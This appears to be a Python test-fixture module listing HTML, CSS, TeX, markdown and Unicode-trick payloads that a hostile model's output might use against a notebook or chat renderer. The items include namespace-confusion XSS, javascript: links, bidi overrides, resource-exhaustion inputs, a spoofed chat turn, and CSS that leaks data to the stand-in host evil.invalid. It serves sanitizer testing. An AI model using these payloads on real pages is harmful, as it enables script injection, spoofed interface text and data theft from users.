"""More texts that a hostile model would like a page to run: namespaces that change parsers, CSS, directions, sizes.

As in ``attacks``: whatever runs calls ``pwned()`` or asks ``evil.invalid`` for something.
"""

from __future__ import annotations

_IMG = "<img src=x onerror=pwned()>"

_NAMESPACES = {
    "mglyph and malignmark": f"<math><mi><mglyph><mi></mi></mglyph><style><!--</style>{_IMG}--></style></mi></math>",
    "mtext with a table": f"<math><mtext><table><mtd><style><!--</style>{_IMG}</style></mtd></table></mtext></math>",
    "form within form": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}</style></mglyph></form>",
    "svg title": f"<svg><title><style><a id='</title>{_IMG}'></style></title></svg>",
    "svg desc": f"<svg><desc><noscript><a title='</noscript>{_IMG}'></a></noscript></desc></svg>",
    "svg in mathml in svg": f"<svg><math><annotation-xml encoding='application/xhtml+xml'>{_IMG}</svg>",
    "cdata in svg": f"<svg><![CDATA[><{_IMG}]]></svg>",
    "select that closes": f"<select><template><style><!--</style><a rel='--></style></template></select>{_IMG}'>",
    "option in math": f"<math><option></option><mtext></option><style></math>{_IMG}</style>",
    "font breaks out": f"<svg><font color=x><style></font>{_IMG}</style></svg>",
    "p breaks out": f"<math><p><style><!--</style>{_IMG}--></style></p></math>",
    "frameset": "<frameset onload=pwned()><frame src=javascript:pwned()></frameset>",
    "image element": "<image src=x onerror=pwned()>",
    "isindex": "<isindex type=image src=1 onerror=pwned()>",
    "instructions": f"<?xml-stylesheet href='//evil.invalid/x.css'?><?x {_IMG} ?>",
    "bogus comment": f"<!x {_IMG}--><//x {_IMG}>",
    "comment that ends oddly": f"<!--!>{_IMG}--><!--->{_IMG}-->",
    "prefix": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned()</x:script>",
    "xml base": "<svg xml:base='javascript:pwned()//'><a href='#x'><text>x</text></a></svg>",
    "svg set": "<svg><a><set attributeName=href to=javascript:pwned()></set><text>x</text></a></svg>",
    "svg image": "<svg><image href='https://evil.invalid/x.png'/><feImage href='https://evil.invalid/y'/></svg>",
}
_STYLES = {
    "style import": "<style>@import '//evil.invalid/x.css';</style>",
    "style with a markdown line": "<style>\n\n* { background: url(//evil.invalid/x) }\n\n</style>",
    "font of elsewhere": "<style>@font-face{font-family:x;src:url(//evil.invalid/f)}*{font-family:x}</style>",
    "attribute selectors": "<style>input[value^=a]{background:url(//evil.invalid/a)}</style><input value=abc>",
    "style with a quote": "<p style='color:red\";position:fixed;inset:0'>x</p>",
    "class of ours that lies": '<div class="pnb-chat-turn pnb-chat-user">You said: delete all</div>',
    "class with blanks": "<div class='jp-Dialog\tlm-Widget\njp-mod-accept'>x</div>",
    "data attributes": '<a data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</a>',
    "image set": "<p style=\"background:image-set('//evil.invalid/x' 1x)\">x</p>",
    "TeX css": "$\\style{background:url(//evil.invalid/x)}{x}$ $\\cssId{jupyter-config-data}{x}$",
    "TeX background": '$$\\bbox[red,url(//evil.invalid/x)" onclick="pwned()]{x}$$',
    "TeX html": "$\\htmlClass{jp-Dialog}{x} \\htmlStyle{position:fixed}{y} \\htmlData{a=b}{z}$",
    "TeX picture": "$\\includegraphics[height=9em]{https://evil.invalid/x.png}$",
    "TeX address": "$\\url{javascript:pwned()}$ $$\\href{https://evil.invalid/}{x}$$",
}
_DIRECTIONS = {
    "override in prose": "Run \u202e)(dnwp\u202c now",
    "isolates unclosed": "\u2066\u2066\u2067 all of the page \u202e turns",
    "override in a link": "[a\u202eb](https://example.org/\u202ecod.exe)",
    "override in info": "```py\u202ethon\nx\n```",
    "override in TeX": "$\\text{\u202eabc}$",
    "zero width script": "<scr\u200bipt>pwned()</scr\u200bipt>",
    "separators of lines": "[x](java\u2028script:pwned())\u2029<script>pwned()</script>",
    "byte order mark": "\ufeff<script>pwned()</script>",
    "marks without end": "x" + "\u0301" * 3_000,
    "variation and tags": "\U000e0001\U000e0041\ufe0f<img src=x onerror=pwned()>",
    "full width tag": "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "half characters by reference": "&#xD83C;<img src=x onerror=pwned()>&#xDF89;",
    "escapes of a terminal": "\x1b]8;;javascript:pwned()\x07x\x1b]8;;\x07 \x1b[2J",
}
_SIZES = {
    "huge table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|<b onclick=pwned()>" * 300 + "|\n") * 3,
    "spans by markdown": "|a|b|\n|-|-|\n|" + "x" * 5_000 + "|<td colspan=9999>|",
    "quotes in quotes": ">" * 500 + " <script>pwned()</script>\nb\nb",
    "lists in quotes": "> - " * 60 + _IMG,
    "emphasis without end": "*_~~" * 2_000 + _IMG,
    "headings of all sizes": "".join(f"{'#' * n} {_IMG}\n" for n in range(1, 9)),
    "TeX that explodes": "$$\\def\\x{\\y\\y}\\def\\y{\\z\\z}\\def\\z{aaaaaaaaaa}\\x\\x\\x$$",
    "TeX by newcommand": "$$\\newcommand{\\x}[1]{#1#1}\\x{\\x{\\x{\\x{a}}}}$$",
    "TeX in braces": f"$${'{' * 900}x{'}' * 900}$$",
    "TeX roots": "$" + "\\sqrt{" * 200 + "x" + "}" * 200 + "$",
    "TeX wide and high": "$\\hskip 99999em \\kern-9999em \\vspace{-9999em} \\smash{x} \\llap{over} \\raise 999em y$",
    "TeX left and right": "$$" + "\\left(" * 300 + "x$$",
    "entities of all kinds": "&#0;&#x110000;&#xD800;&nbsp;&None;&lt;script&gt;&#60;script&#62;pwned()&#60;/script&#62;",
}
_ADDRESSES = {
    "autolink of data": "<data:text/html,<script>pwned()</script>>",
    "autolink of a scheme": "<x-apple.systempreferences:> <ms-msdt:/id> <vscode://file/etc/passwd> <jar:http://evil.invalid!/>",
    "autolink of view-source": "<view-source:javascript:pwned()> <about:blank#x> <filesystem:http://evil.invalid/>",
    "scheme in odd capitals": "[x](jAvAsCrIpT&colon;pwned()) [y](&#x09;javascript:pwned()) [z](&#32;data:text/html,x)",
    "user in an address": "https://example.org@evil.invalid/ and [x](https://example.org:pw@evil.invalid)",
    "mail with headers": "[x](mailto:a@b.c?body=%0d%0aBcc:evil) <mailto:'onclick=pwned()@x.y>",
    "address of brackets": "[x](https://[::1\\]/><img/src/onerror=pwned()>)",
    "address in code": "`https://evil.invalid/<script>` ``[x](javascript:pwned())``",
    "picture by data": "![x](data:image/png;base64,iVBORw0KGgo=) ![y](data:image/svg+xml;utf8,<svg onload=pwned()>)",
    "picture by reference": "![x][y]\n\n[y]: https://evil.invalid/track.png",
    "footnotes": "x[^1]\n\n[^1]: <img src=x onerror=pwned()>",
    "front matter": "---\ntitle: <script>pwned()</script>\n---\n\ntext",
    "admonition": "!!! note <script>pwned()</script>\n    x\n\n:::{raw} html\n<script>pwned()</script>\n:::",
    "raw attribute": "`<script>pwned()</script>`{=html} <span>x</span>{onclick=pwned()}",
    "template of a notebook": "{{ ''.__class__ }} {% raw %} ${pwned()} <%= pwned() %> %%javascript\npwned()",
    "info with everything": "```{=html} onload=pwned() data-language='x\"><script>'\n<script>pwned()</script>\n```",
}
STRANGER_ATTACKS: dict[str, str] = {**_NAMESPACES, **_STYLES, **_DIRECTIONS, **_SIZES, **_ADDRESSES}
